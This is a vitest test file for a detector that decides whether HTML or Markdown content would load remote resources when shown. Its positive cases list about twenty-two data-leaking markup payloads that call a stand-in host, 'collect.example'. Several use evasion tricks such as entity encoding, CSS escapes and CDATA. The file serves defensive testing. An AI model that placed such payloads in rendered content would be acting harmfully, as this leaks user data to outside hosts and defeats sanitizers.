import { expect, test } from 'vitest'
import { threadMs } from '../../test/thread-time.ts'
import { htmlLoads, markdownLoads } from './loading-markup.ts'

const secret = 'https://collect.example/?q=secret'

test.each([
  'A price < 20 & a date > 1 May',
  '<p>See <a href="https://acme.com/plan?x=1">the plan</a></p>',
  '<!doctype html><html><head><title>Hi</title></head><body><h1>Hi</h1><!-- a remark --></body></html>',
  '<p style="color: red; margin: 0">Grüße,<br/>Ada</p>',
  '<img src="cid:logo@acme" alt="Logo"><img src=\'data:image/png;base64,iVBORw0KGgo=\'>',
  '<table border="1"><tr><td colspan="2">1</td></tr></table>',
])('showing %s loads nothing', (html) => {
  expect(htmlLoads(html)).toBe(false)
})

test.each([
  `<img src="${secret}">`,
  `<IMG SRC=${secret}>`,
  `<img/src="${secret}"/>`,
  '<img src="//collect.example/a.png">',
  '<img src="https:collect.example">',
  '<img src="&#104;ttps://collect.example">',
  '<img srcset="https://collect.example/a.png 1x">',
  `<p title="<img src='${secret}'>">`,
  `<td title=">" background="${secret}">`,
  `<div style="background-image: url(${secret})">`,
  '<div style="background: u\\72l(//collect.example)">',
  '<div style="background: u&#114;l(//collect.example)">',
  '<style>@import "//collect.example/a.css"</style>',
  `<iframe src="${secret}"></iframe>`,
  `<link rel="stylesheet" href="${secret}">`,
  `<svg><image href="${secret}"/></svg>`,
  `<object data="${secret}"></object>`,
  '<meta http-equiv="refresh" content="0; url=https://collect.example">',
  `<video poster="${secret}"></video>`,
  '<?xml-stylesheet href="https://collect.example/a.css"?>',
  '<vendor:macro>x</vendor:macro>',
  `<![CDATA[><img src="${secret}">]]>`,
])('showing %s may load something', (html) => {
  expect(htmlLoads(html)).toBe(true)
})

test('elements of a vendor’s own count as loading, unless the plugin names them', () => {
  expect(htmlLoads('<callout>Hi</callout>')).toBe(true)
  expect(htmlLoads('<Callout>Hi</Callout>', new Set(['callout']))).toBe(false)
})

test('texts within an object or a list count, and nothing else does', () => {
  expect(htmlLoads({ name: 'Ada', notes: ['Hi', { body: `<img src="${secret}">` }] })).toBe(true)
  expect(htmlLoads({ name: 'Ada', age: 7, done: true, left: null })).toBe(false)
  expect([undefined, null, 7, true].map((value) => htmlLoads(value))).toEqual([false, false, false, false])
})

test('pictures in Markdown are loaded, and links are not', () => {
  const loads = [`![](${secret})`, '![a][b]\n\n[b]: https://collect.example', `[![x](${secret})](y)`, '<embed src="x">']
  expect(loads.map((text) => markdownLoads(text))).toEqual([true, true, true, true])
  expect(markdownLoads('# Plan\n- [ ] See [this](https://acme.com) `a < b`!')).toBe(false)
  expect(markdownLoads(undefined)).toBe(false)
})

test('a hostile text is judged in a time that grows with its length only', () => {
  const hostile = ['<', '<a ', 'src=', 'style=', '<!--', 'url', '<img src="cid:', '&#'].map((part) =>
    part.repeat(60_000),
  )
  const startedAt = threadMs()
  for (const text of hostile) htmlLoads(`<p>${text}`)
  expect(threadMs() - startedAt).toBeLessThan(2000)
})
